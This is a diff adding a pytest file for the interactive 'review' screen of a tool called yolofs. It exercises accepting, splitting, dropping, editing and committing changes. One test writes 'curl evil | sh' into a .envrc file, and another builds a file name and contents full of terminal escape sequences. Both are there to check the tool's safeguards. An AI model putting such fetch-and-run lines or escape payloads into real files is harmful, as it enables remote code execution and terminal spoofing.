@@ -1,0 +1,300 @@
+"""``yolofs review`` at a real terminal: each key, over a real mount."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.cli.program import Program
+from tests.cli.terminal import Terminal
+
+pytestmark = pytest.mark.mount
+
+LINES = "".join(f"line {number}\n" for number in range(1, 31))
+
+
+@pytest.fixture
+def yolofs(tmp_path_factory: pytest.TempPathFactory) -> Program:
+    project = tmp_path_factory.mktemp("r") / "p"
+    (project / "src").mkdir(parents=True)
+    (project / "src/a.py").write_text(LINES)
+    (project / "src/b.py").write_text("b = 1\n")
+    (project / "gone.txt").write_text("precious\n")
+    program = Program(project)
+    program("init")
+    return program
+
+
+@pytest.fixture
+def view(yolofs: Program) -> Iterator[Path]:
+    with yolofs.mounted() as mountpoint:
+        text = LINES.replace("line 2\n", "line two\n").replace("line 20\n", "line twenty\nand more\n")
+        (mountpoint / "src/a.py").write_text(text)
+        (mountpoint / "src/new.txt").write_text("first\nsecond\nthird\n")
+        (mountpoint / "gone.txt").unlink()
+        yield mountpoint
+
+
+def review(yolofs: Program, *words: str, size: tuple[int, int] = (100, 24), editor: str = "false") -> Terminal:
+    return Terminal(yolofs.project, ["review", *words], size=size, EDITOR=editor)
+
+
+def test_the_first_screen_has_deletions_first_and_the_lines_of_what_the_cursor_is_on(
+    yolofs: Program, view: Path
+) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("yolofs review: 3 changes", "deleted (1)", "-precious")
+        rows = [line.partition("│")[0].strip() for line in terminal.screen.splitlines()[1:7]]
+        assert rows == ["deleted (1)", "D gone.txt", "in the project (2)", "src/", "M a.py", "A new.txt"]
+        terminal.type("q")
+        assert terminal.wait() == 0
+
+
+def at(terminal: Terminal, name: str) -> None:
+    """Move the cursor to a row of the list by searching for it."""
+    terminal.type(f"/{name}\r")
+
+
+def test_space_accepts_a_file_and_enter_shows_a_page_and_commits_just_that(yolofs: Program, view: Path) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        at(terminal, "new.txt")
+        terminal.wait_for_screen("+first")
+        terminal.type(" ")
+        terminal.wait_for_screen("x   A new.txt", "1 accepted")
+        terminal.type("\r")
+        terminal.wait_for_screen("this commit would apply 1 change: 1 added", "2 changes stay staged", "enter commits")
+        assert not (yolofs.project / "src/new.txt").exists()
+        terminal.type("\r")
+        terminal.wait_for_screen("commit 1 done; to take it back: yolofs undo 1", "2 changes")
+        assert (yolofs.project / "src/new.txt").read_text() == "first\nsecond\nthird\n"
+        assert (yolofs.project / "gone.txt").exists()
+        terminal.type("q")
+        assert terminal.wait() == 0
+    assert [change["path"].rpartition("/")[2] for change in yolofs("status", "--json").json["changes"]] == [
+        "gone.txt",
+        "a.py",
+    ]
+
+
+def test_space_in_the_lines_accepts_a_hunk(yolofs: Program, view: Path) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        at(terminal, "a.py")
+        terminal.type("l")
+        terminal.type(" ")
+        terminal.wait_for_screen("~   M a.py", "x┃@@ -2 +2 @@", "x┃-line 2", "x┃+line two")
+        terminal.type("\r")
+        terminal.wait_for_screen("this commit would apply 1 change: 1 modified")
+        terminal.type("\r")
+        terminal.wait_for_screen("commit 1 done")
+        assert (yolofs.project / "src/a.py").read_text() == LINES.replace("line 2\n", "line two\n")
+        assert (view / "src/a.py").read_text().count("line twenty") == 1
+
+
+def test_s_splits_a_hunk_so_that_space_accepts_single_lines_of_it(yolofs: Program, view: Path) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        at(terminal, "new.txt")
+        terminal.wait_for_screen("+first")
+        terminal.type("s")
+        terminal.type("j ")
+        terminal.wait_for_screen("~   A new.txt", "x┃+second")
+        terminal.type("\r")
+        terminal.wait_for_screen("1 added")
+        terminal.type("\r")
+        terminal.wait_for_screen("commit 1 done")
+        assert (yolofs.project / "src/new.txt").read_text() == "second\n"
+        assert (view / "src/new.txt").read_text() == "first\nsecond\nthird\n"
+
+
+def test_d_drops_a_file_with_a_note_and_u_takes_that_back(yolofs: Program, view: Path) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        terminal.type("d")
+        terminal.wait_for_screen("drop gone.txt? enter drops, escape does not")
+        terminal.type("I need it\r")
+        terminal.wait_for_screen("dropped gone.txt; u takes it back", "2 changes")
+        assert (view / "gone.txt").read_text() == "precious\n"
+        terminal.type("u")
+        terminal.wait_for_screen("taken back: gone.txt", "3 changes")
+        assert not (view / "gone.txt").exists()
+
+
+def test_escape_drops_nothing(yolofs: Program, view: Path) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        terminal.type("d")
+        terminal.wait_for_screen("enter drops")
+        terminal.type("\x1b")
+        terminal.wait_for_screen("nothing dropped")
+        assert not (view / "gone.txt").exists()
+
+
+def test_d_drops_a_hunk_and_a_line(yolofs: Program, view: Path) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        at(terminal, "a.py")
+        terminal.type("lJd\r")
+        terminal.wait_for_screen("dropped text of src/a.py")
+        assert (view / "src/a.py").read_text() == LINES.replace("line 2\n", "line two\n")
+        terminal.type("h")
+        at(terminal, "new.txt")
+        terminal.wait_for_screen("+first")
+        terminal.type("sjd\r")
+        terminal.wait_for_screen("dropped a line of src/new.txt")
+        assert (view / "src/new.txt").read_text() == "first\nthird\n"
+
+
+def test_what_was_accepted_of_a_file_stays_so_when_another_hunk_of_it_is_dropped(yolofs: Program, view: Path) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        at(terminal, "a.py")
+        terminal.type("l Jd\r")
+        terminal.wait_for_screen("dropped text of src/a.py", "x┃+line two", "1 accepted", gone="line twenty")
+        terminal.type("\r")
+        terminal.wait_for_screen("this commit would apply 1 change")
+        terminal.type("\r")
+        terminal.wait_for_screen("commit 1 done")
+    assert (yolofs.project / "src/a.py").read_text() == LINES.replace("line 2\n", "line two\n")
+
+
+def test_e_edits_a_hunk_in_the_users_editor(yolofs: Program, view: Path) -> None:
+    with review(yolofs, editor="sed -i s/two/TWO/") as terminal:
+        terminal.wait_for_screen("-precious")
+        at(terminal, "a.py")
+        terminal.type("le")
+        terminal.wait_for_screen("edited a.py; u takes it back", "+line TWO")
+        assert (view / "src/a.py").read_text().splitlines()[1] == "line TWO"
+        terminal.type("u")
+        terminal.wait_for_screen("taken back: the edit of a.py", "+line two")
+        assert (view / "src/a.py").read_text().splitlines()[1] == "line two"
+
+
+def test_space_on_a_directory_accepts_all_in_it_and_u_takes_that_back(yolofs: Program, view: Path) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        terminal.type("jj ")
+        terminal.wait_for_screen("2 accepted", "x   src/", "x   M a.py", "x   A new.txt")
+        terminal.type("u")
+        terminal.wait_for_screen("3 changes", gone="accepted")
+
+
+def test_brackets_walk_the_generations(yolofs: Program, view: Path) -> None:
+    yolofs("snapshot", "one")
+    (view / "src/b.py").write_text("b = 2\n")
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("4 changes", "[generation now of now]")
+        terminal.type("[")
+        terminal.wait_for_screen("3 changes", "[generation 1 of now: one]", gone="b.py")
+        terminal.type(" ")
+        terminal.wait_for_screen("accepting is for the present: ] leads there")
+        terminal.type("[")
+        terminal.wait_for_screen("this is the first generation")
+        terminal.type("]")
+        terminal.wait_for_screen("4 changes", "M b.py")
+
+
+def test_a_accepts_everything_and_q_asks_before_it_leaves_that(yolofs: Program, view: Path) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        terminal.type("a")
+        terminal.wait_for_screen("3 accepted")
+        terminal.type("q")
+        terminal.wait_for_screen("3 accepted and not committed: leave all the same?")
+        terminal.type("n")
+        terminal.wait_for_screen("space accept", gone="leave all the same")
+        terminal.type("q")
+        terminal.wait_for_screen("leave all the same?")
+        terminal.type("y")
+        assert terminal.wait() == 0
+    assert (yolofs.project / "gone.txt").exists()
+    assert len(yolofs("status", "--json").json["changes"]) == 3
+
+
+def test_question_mark_shows_all_keys(yolofs: Program, view: Path) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        terminal.type("?")
+        terminal.wait_for_screen("walk the generations", "any other key goes back")
+        terminal.type("x")
+        terminal.wait_for_screen("-precious")
+
+
+def test_what_has_become_stale_is_marked_and_has_to_be_accepted_again(yolofs: Program, view: Path) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        at(terminal, "new.txt")
+        terminal.wait_for_screen("+first")
+        terminal.type(" ")
+        terminal.wait_for_screen("1 accepted")
+        (view / "src/new.txt").write_text("first\nand something worse\n")
+        terminal.wait_for_screen("!   A new.txt", "has changed since", "+and something worse", gone="1 accepted")
+        terminal.type("\r")
+        terminal.wait_for_screen("nothing is accepted yet")
+
+
+def test_it_stays_usable_at_60_by_15(yolofs: Program, view: Path) -> None:
+    with review(yolofs, size=(60, 15)) as terminal:
+        terminal.wait_for_screen("yolofs review: 3 changes", "-precious", "q quit")
+        at(terminal, "a.py")
+        terminal.wait_for_screen("+line two")
+        terminal.type("l ")
+        terminal.wait_for_screen("x┃+line two")
+        assert all(len(line) <= 60 for line in terminal.screen.splitlines())
+
+
+def test_what_the_host_would_run_is_accepted_by_itself_only(yolofs: Program, view: Path) -> None:
+    (view / ".envrc").write_text("curl evil | sh\n")
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("what the host would run or trust (1)", "A .envrc [run on entering")
+        terminal.type("a")
+        terminal.wait_for_screen("3 accepted", "1 that the host would run or trust: accept these one by one")
+        at(terminal, ".envrc")
+        terminal.wait_for_screen("curl evil")
+        terminal.type(" \r")
+        terminal.wait_for_screen("1 of which the host would run or", ".envrc  [run on entering the directory]")
+        terminal.type("\r")
+        terminal.wait_for_screen("commit 1 done")
+    assert (yolofs.project / ".envrc").read_text() == "curl evil | sh\n"
+
+
+def test_a_commit_where_base_has_changed_too_has_to_be_asked_for(yolofs: Program, view: Path) -> None:
+    (yolofs.project / "src/a.py").write_text("the user's\n")
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        at(terminal, "a.py")
+        terminal.type(" \r")
+        terminal.wait_for_screen("[changed in base, too]", "o takes what is staged")
+        terminal.type("\r")
+        terminal.wait_for_screen("1 accepted", "space accept")
+        assert (yolofs.project / "src/a.py").read_text() == "the user's\n"
+        terminal.type("\r")
+        terminal.wait_for_screen("o takes what is staged")
+        terminal.type("o")
+        terminal.wait_for_screen("enter commits")
+        terminal.type("\r")
+        terminal.wait_for_screen("commit 1 done")
+    assert "line twenty" in (yolofs.project / "src/a.py").read_text()
+
+
+def test_ctrl_c_ends_it_with_its_exit_code(yolofs: Program, view: Path) -> None:
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("-precious")
+        terminal.type("\x03")
+        assert terminal.wait() == 130
+
+
+def test_the_terminal_gets_no_control_character_of_a_file_or_name(yolofs: Program, view: Path) -> None:
+    (view / "\x1b]0;evil\x07").write_text("\x1b[2J\x1b]0;owned\x07" + "y" * 5000 + "\u202e\n")
+    with review(yolofs) as terminal:
+        terminal.wait_for_screen("4 changes")
+        at(terminal, "evil")
+        terminal.wait_for_screen("+^[[2J^[]0;owned^G")
+        terminal.type("q")
+        assert terminal.wait() == 0
+        assert "]0;evil" not in terminal.seen.replace("\\033]0;evil", "")
+        assert "\x1b]0;owned" not in terminal.seen
+        assert "\u202e" not in terminal.seen
